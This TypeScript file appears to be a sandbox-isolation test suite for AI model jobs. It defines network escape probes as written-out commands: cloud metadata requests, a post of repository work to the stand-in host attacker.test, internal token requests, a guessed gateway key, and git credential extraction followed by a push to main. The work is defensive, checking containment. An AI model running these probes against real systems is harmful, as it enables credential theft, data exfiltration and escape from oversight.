/** What is tried with the network. */
import type { Inside } from '../stages/inside.ts'
import { connect, get, node, type Plan, PROXIED_ENV } from './plan.ts'

const NETWORK = 'A network namespace of its own, with nothing in it but loopback; names are not resolved.'
const PROXIED = 'The way out leads through a proxy that tunnels to listed hosts only. What it refuses is in the result.'

/** What the result tells of refused connections; it is shown in the status comment and on the check run. */
function refusals({ result }: Inside): string | null {
  return result.denied === undefined ? null : JSON.stringify(result.denied)
}

export const network: readonly Plan[] = [
  {
    name: 'a service on the host’s loopback',
    how: 'A connection to a port where the host listens, as its database would, over IPv4 and IPv6.',
    stopped: NETWORK,
    told: 'nobody',
    probe: ({ port }) => `${connect(`${port}, "127.0.0.1"`)}; ${connect(`${port}, "::1"`)}; ${connect(`${port}, "localhost"`)}`,
    harm: ({ host }) => (host.heard.includes('tcp') ? ['the service'] : []),
  },
  {
    name: 'sockets of the host',
    how: 'A unix socket by its path, and an abstract one, which has no path to hide.',
    stopped: NETWORK,
    told: 'nobody',
    probe: ({ unixSocket, abstractSocket }) => `${connect(`"${unixSocket}"`)}; ${connect(`"\\0${abstractSocket}"`)}`,
    harm: ({ host }) => host.heard.filter((name) => name !== 'tcp').map((name) => `the ${name} socket`),
  },
  {
    name: 'the metadata service, directly',
    how: '`http://169.254.169.254/` and its IPv6 name, past the proxy.',
    stopped: NETWORK,
    told: 'nobody',
    probe: () => `${get('http://169.254.169.254/latest/meta-data/')}; ${get('http://[fd00:ec2::254]/latest/meta-data/')}`,
  },
  {
    name: 'the internet, directly',
    how: 'TCP to an address, UDP to a name server, a raw socket, the name service.',
    stopped: NETWORK,
    told: 'nobody',
    probe: () =>
      `${get('http://1.1.1.1/')}; ${node('const s = require("dgram").createSocket("udp4"); s.send("x", 53, "8.8.8.8", (e) => { console.log(e ? "no " + e.code : "GOT"); s.close() })')}; getent hosts example.com && echo GOT; perl -e "socket(S, 2, 3, 1) and print qq(GOT)"; perl -e "socket(S, 17, 3, 768) and print qq(GOT)"`,
  },
  {
    name: 'the metadata service, through the proxy',
    how: 'A tunnel and a plain page, by way of `HTTPS_PROXY`.',
    stopped: PROXIED,
    told: 'people',
    says: refusals,
    probe: () =>
      `${get('https://169.254.169.254/latest/', PROXIED_ENV)}; ${get('http://169.254.169.254/latest/', PROXIED_ENV)}`,
  },
  {
    name: 'sending work to a host that is not listed',
    how: 'The repository’s files, posted to `https://attacker.test` by way of the proxy.',
    stopped: PROXIED,
    told: 'people',
    says: refusals,
    probe: () => get('https://attacker.test/?d=work', PROXIED_ENV),
  },
  {
    name: 'the app’s internal API from within',
    how: 'A token is asked for directly and by way of the proxy, with the token of the model gateway.',
    stopped: `${NETWORK} ${PROXIED}`,
    told: 'people',
    says: refusals,
    probe: ({ shop }) =>
      `${get(`${shop.app.url}/internal/jobs/run1-code-1/token`)}; ${get(`${shop.app.url}/internal/jobs/run1-code-1/token`, PROXIED_ENV)}`,
    harm: ({ host }) => (host.shop.app.refusals.length > 0 ? ['the app was reached'] : []),
  },
  {
    name: 'the gateway with another job’s token',
    how: 'The model gateway of this job, asked with a guess, and with none.',
    stopped: 'Each job has a gateway and a token of its own.',
    told: 'asker',
    says: (_, printed) => printed,
    probe: () =>
      `for k in guess ""; do ${node('fetch(process.env.SWITCHYARD_GATEWAY_URL + "/v1/messages", { method: "POST", headers: { "x-api-key": process.argv[1] ?? "" }, body: "{}" }).then(async (r) => console.log(r.ok ? "GOT" : "refused", r.status), (e) => console.log("no", e.cause?.code))')} "$k"; done`,
  },
  {
    name: 'pushing past the runner',
    how: '`git push` to the base branch with what the clone knows, with stored credentials, with the host’s helper.',
    stopped: 'There is no token inside, and no way to GitHub.',
    told: 'nobody',
    probe: () =>
      'git remote -v; git config --get-regexp "credential|extraheader"; git commit -q --allow-empty -m Evil; git push origin HEAD:main && echo GOT; printf "protocol=http\\nhost=127.0.0.1\\n\\n" | git credential fill | grep password && echo GOT; git reset -q --soft HEAD~1',
    harm: async ({ host }) =>
      (await host.shop.git('acme/api', 'log', '--format=%s', 'main')).includes('Evil') ? ['a push'] : [],
  },
]
